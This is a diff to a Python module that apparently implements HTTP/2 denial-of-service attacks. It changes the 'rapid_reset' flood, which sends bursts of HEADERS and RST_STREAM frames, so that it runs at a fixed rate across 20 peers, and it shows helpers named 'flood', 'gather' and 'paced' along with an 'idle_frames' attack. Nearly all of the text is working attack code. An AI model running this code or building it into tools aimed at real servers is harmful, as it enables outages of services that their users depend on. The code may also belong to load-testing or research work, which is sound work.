@@ -12,11 +12,11 @@ from __future__ import annotations
 
 import itertools
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from functools import partial
 
 from .attack import Attack
-from .wire import Pieces, Stranger, Tally, Target, flood, gather
+from .wire import Pieces, Stranger, Tally, Target, flood, gather, paced
 
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0x1, 0x3, 0x4, 0x6, 0x9
@@ -52,7 +52,9 @@ def _again(target: Target, make: Callable[[Stranger], Pieces], peers: int = 20) 
 
 
 def rapid_reset(target: Target) -> Tally:
-    def pieces(_peer: Stranger) -> Pieces:
+    """A thousand a second of each peer, which is ten times what is read of it."""
+
+    def bursts() -> Iterator[bytes]:
         numbers = itertools.count(1, 2)
         while True:
             yield b"".join(
@@ -61,7 +63,7 @@ def rapid_reset(target: Target) -> Tally:
                 for number in itertools.islice(numbers, _AT_ONCE)
             )
 
-    return _again(target, pieces)
+    return _again(target, lambda _peer: paced(bursts(), 20))
 
 
 def idle_frames(target: Target, one: bytes = _frame(_SETTINGS, 0, 0)) -> Tally:
